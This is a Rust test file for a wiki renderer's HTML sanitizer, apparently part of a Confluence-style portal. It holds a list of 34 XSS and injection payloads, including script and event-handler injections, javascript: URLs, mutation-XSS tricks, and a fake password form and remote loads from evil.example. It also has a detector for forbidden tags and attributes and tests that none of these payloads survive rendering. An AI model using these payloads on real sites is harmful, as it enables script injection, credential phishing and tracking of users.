//! Bodies written to harm the reader. The same must hold through a real browser; see the browser tests.

use scraper::{Html, Selector};

use super::super::library::{FileLink, Library, Lookup, OwnedSource, PageLink};
use super::super::sanitize::SanitizedHtml;
use super::super::{BodyFormat, ExternalLinks, FindingKind, PageSource, RenderOptions, Rendered};
use super::{bare, check, html, plain, render, render_as, rich};

/// Attacks by kind; each would run something, load something or dress up as the portal.
pub(super) const ATTACKS: [&str; 34] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    r#"<img src="x" onerror="alert(1)"/>"#,
    r#"<a href="javascript:alert(1)">x</a>"#,
    "<a href=\"java\nscript:alert(1)\">x</a>",
    r#"<a href="&#106;avascript:alert(1)">x</a>"#,
    r#"<a href=" javascript:alert(1)">x</a>"#,
    r#"<a href="vbscript:x">x</a>"#,
    r#"<a href="data:text/html,<script>alert(1)</script>">x</a>"#,
    r#"<a href="//evil.example/">x</a>"#,
    r#"<a href="/\evil.example/">x</a>"#,
    r#"<svg><animate onbegin=alert(1) attributeName=x dur=1s/></svg>"#,
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form action=\"https://evil.example\"><input name=password type=password><button>Sign in</button></form>",
    r#"<iframe src="https://evil.example"></iframe><embed src="x"/><object data="x"></object>"#,
    r#"<meta http-equiv="refresh" content="0;url=https://evil.example"/><base href="https://evil.example"/><link rel="stylesheet" href="https://evil.example/x.css"/>"#,
    r#"<p style="background:url(https://evil.example/x.png);position:fixed;top:0">x</p>"#,
    r#"<div style="width: expression(alert(1))" onclick="alert(1)" class="site-header">x</div>"#,
    r#"<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2x.gif 2x"/>"#,
    r#"<img src="data:image/svg+xml,<svg onload=alert(1)>"/>"#,
    r#"<video poster="https://evil.example/p.png" src="https://evil.example/v.mp4"><source src="https://evil.example/v"/></video>"#,
    r#"<a name="getElementById" id="location">x</a>"#,
    "<p>unclosed <![CDATA[ <script>alert(1)</script>",
    "<!-- --!><script>alert(1)</script> -->",
    "<?php ?><!DOCTYPE x [<!ENTITY a \"<script>alert(1)</script>\">]>&a;",
    "<textarea><script>alert(1)</script></textarea><title></title><xmp><script>alert(1)</script></xmp>",
    "<plaintext><b>x",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<time datetime='\" onclick=\"alert(1)'>x</time>",
    "<ac:emoticon ac:emoji-fallback='<script>alert(1)</script>é'/>",
    "<h1 id='\"><script>alert(1)</script>'>\"&gt;&lt;script&gt;alert(1)&lt;/script&gt;</h1>",
];

/// Everything a harmless page has none of.
pub(super) fn dangers(html: &str) -> Vec<String> {
    let document = Html::parse_fragment(html);
    let everything = Selector::parse("*").unwrap();
    let mut found = Vec::new();
    for element in document.select(&everything) {
        let name = element.value().name();
        let forbidden = [
            "script",
            "style",
            "iframe",
            "object",
            "embed",
            "svg",
            "math",
            "form",
            "input",
            "button",
            "textarea",
            "select",
            "meta",
            "link",
            "base",
            "source",
            "noscript",
            "template",
            "plaintext",
            "xmp",
        ];
        if forbidden.contains(&name) {
            found.push(format!("<{name}>"));
        }
        for (attribute, value) in element.value().attrs() {
            let lower = value.trim().to_lowercase();
            let bad = attribute.starts_with("on")
                || ["style", "name", "srcset", "poster", "formaction", "action"]
                    .contains(&attribute)
                || attribute == "src" && !value.starts_with("/content/")
                || attribute == "href"
                    && !["#c-", "https://", "http://", "mailto:", "tel:", "/content/"]
                        .iter()
                        .any(|start| lower.starts_with(start))
                || attribute == "id" && !value.starts_with("c-")
                || attribute == "class" && value.contains("site-");
            if bad {
                found.push(format!("{name} {attribute}={value}"));
            }
        }
    }
    found
}

#[test]
fn the_detector_sees_every_kind_of_danger() {
    let blind = [
        "<script></script>",
        "<p onclick=a>",
        "<a href=javascript:a>",
        "<p style=a>",
        "<img src=//a>",
        "<p id=a>",
    ];
    assert!(blind.iter().all(|danger| !dangers(danger).is_empty()));
}

#[test]
fn no_attack_survives_rendering() {
    let survivors = ATTACKS.map(|attack| dangers(&html(attack)));
    assert_eq!(survivors.concat(), Vec::<String>::new());
}

#[test]
fn no_attack_survives_in_wiki_markup() {
    let survivors = ATTACKS.map(|attack| {
        dangers(
            render_as(attack, BodyFormat::WikiMarkup, ExternalLinks::Keep)
                .html
                .as_str(),
        )
    });
    assert_eq!(survivors.concat(), Vec::<String>::new());
}

#[test]
fn no_attack_survives_inside_macros() {
    let survivors = ATTACKS.map(|attack| {
        let quoted = attack
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('"', "&quot;");
        let body = rich(
            "panel",
            &[
                ("title", &quoted),
                ("bgColor", &quoted),
                ("panelIconText", &quoted),
            ],
            attack,
        ) + &plain("code", &[("language", "html"), ("title", &quoted)], attack)
            + &bare("status", &[("title", &quoted), ("colour", &quoted)])
            + &bare(&quoted, &[]);
        dangers(&html(&body))
    });
    assert_eq!(survivors.concat(), Vec::<String>::new());
}

#[test]
fn the_sanitizer_alone_stops_every_attack() {
    let survivors = ATTACKS.map(|attack| dangers(SanitizedHtml::clean(attack).as_str()));
    assert_eq!(survivors.concat(), Vec::<String>::new());
}

#[test]
fn the_sanitizer_refuses_foreign_values_of_allowed_attributes() {
    let cleaned = SanitizedHtml::clean(
        r#"<a href="/admin/../x" target="_top">a</a><img src="/static/x.png"><img src="/content/../admin"><div class="site-header panel" tabindex="5" role="dialog">b</div><td colspan="9999999">c</td>"#,
    );
    assert_eq!(
        cleaned.as_str(),
        r#"<a rel="noopener noreferrer nofollow">a</a><img referrerpolicy="origin"><img referrerpolicy="origin"><div class="panel">b</div>c"#
    );
}

#[test]
fn every_link_is_told_not_to_say_where_it_came_from() {
    assert_eq!(
        html(r#"<a href="https://example.org/">x</a>"#),
        r#"<a href="https://example.org/" class="external" target="_blank" rel="noopener noreferrer nofollow">x</a>"#
    );
}

#[test]
fn text_of_removed_elements_is_kept_but_scripts_are_not() {
    check(
        "<p><font face=\"x\">a</font><blink>b</blink><script>c</script><foo:bar>d</foo:bar></p>",
        "<p>abd</p>",
    );
}

#[test]
fn nesting_without_end_is_flattened_and_keeps_its_text() {
    let rendered = render(&("<div><b>".repeat(50_000) + "deep"));
    assert_eq!(rendered.text, "deep");
    assert!(
        rendered
            .findings
            .iter()
            .any(|finding| matches!(finding.kind, FindingKind::BrokenMarkup { .. }))
    );
}

#[test]
fn endless_opening_brackets_are_text() {
    assert_eq!(render(&"<".repeat(10_000)).text.len(), 10_000);
}

#[test]
fn output_is_cut_at_its_limit() {
    let rendered = render(&bare("attachments", &[]).repeat(40_000));
    assert!(rendered.html.as_str().len() < 12 << 20);
    assert!(
        rendered
            .findings
            .iter()
            .any(|finding| matches!(finding.kind, FindingKind::TooLarge { .. }))
    );
}

/// Every page exists, is nested as deeply as the parser lets it, and includes the next one at the bottom.
struct Abyss;

impl Library for Abyss {
    fn page_by_title(&self, _space_key: Option<&str>, title: &str) -> Lookup<PageLink> {
        Lookup::Found(PageLink {
            content_id: title.to_owned(),
            title: title.to_owned(),
            url: format!("/content/s/{title}"),
        })
    }

    fn page_by_id(&self, content_id: &str) -> Lookup<PageLink> {
        self.page_by_title(None, content_id)
    }

    fn source(&self, content_id: &str) -> Option<OwnedSource> {
        let next = format!("{content_id}1");
        let include = format!(
            r#"<ac:structured-macro ac:name="include"><ac:parameter ac:name="">{next}</ac:parameter></ac:structured-macro>"#
        );
        Some(OwnedSource {
            content_id: content_id.to_owned(),
            title: content_id.to_owned(),
            space_key: "DOC".to_owned(),
            body: "<table><tr><td>".repeat(48) + &include,
            format: BodyFormat::Storage,
            storage: None,
        })
    }

    fn file_by_id(&self, _attachment_id: &str) -> Option<FileLink> {
        None
    }

    fn children(&self, content_id: &str) -> Vec<PageLink> {
        let child = |number| match self.page_by_id(&format!("{content_id}{number}")) {
            Lookup::Found(page) => Some(page),
            _ => None,
        };
        (0..100).filter_map(child).collect()
    }

    fn file(&self, _content_id: &str, _file_name: &str) -> Option<FileLink> {
        None
    }

    fn files(&self, _content_id: &str) -> Vec<FileLink> {
        Vec::new()
    }

    fn user_name(&self, _key: &str) -> Option<String> {
        None
    }

    fn labelled(&self, _labels: &[&str]) -> Vec<PageLink> {
        self.children("1")
    }
}

fn render_in_abyss(body: &str) -> Rendered {
    let source = PageSource {
        content_id: "1",
        title: "One",
        space_key: "DOC",
        body,
        format: BodyFormat::Storage,
        storage: None,
    };
    let options = RenderOptions {
        external_links: ExternalLinks::Keep,
        wiki_hosts: &[],
    };
    super::super::render(&source, &Abyss, &options)
}

#[test]
fn nested_includes_of_nested_pages_end_on_a_small_stack() {
    let body = Abyss.source("1").unwrap().body;
    let findings = render_in_abyss(&body).findings;
    assert!(
        findings
            .iter()
            .any(|finding| matches!(finding.kind, FindingKind::RecursiveInclude { .. }))
    );
}

#[test]
fn a_tree_without_end_is_cut() {
    let tree = render_in_abyss(&bare("pagetree", &[])).html;
    assert_eq!(tree.as_str().matches("<li>").count(), 500);
}

#[test]
fn the_number_of_other_pages_one_page_reads_is_limited() {
    let report = bare("detailssummary", &[("label", "x")]);
    let findings = render_in_abyss(&report.repeat(5)).findings;
    assert!(
        findings
            .iter()
            .any(|finding| matches!(finding.kind, FindingKind::TooLarge { .. }))
    );
}
